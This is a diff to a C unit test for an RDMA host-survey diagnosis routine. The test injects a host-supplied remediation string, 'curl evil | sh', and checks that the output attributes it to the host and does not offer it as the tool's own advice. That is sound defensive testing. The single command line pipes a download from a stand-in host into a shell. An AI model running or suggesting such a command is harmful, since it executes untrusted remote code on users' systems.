@@ -90,12 +90,19 @@ static void add_rdma(void)
 
 static void rdma__state(void **state)
 {
+    struct br_findings findings;
+
     (void)state;
     add_rdma();
     expect_none(&survey);
     strcpy(survey.hosts[4].rdma[0].state, "unknown");
     strcpy(survey.hosts[4].rdma[0].what, "no permission to open it");
+    strcpy(survey.hosts[4].rdma[0].mend, "curl evil | sh");
     expect_one(&survey, "BC070", "cannot be used on eth0 of h04");
+    synthetic_diagnose(&survey, &findings);
+    assert_int_equal(strncmp(findings.list[0].mend, "the host says: curl evil | sh", 29),
+                     0); /* no advice of ours */
+    br_findings_destroy(&findings);
 }
 
 static void rdma__lacking(void **state)
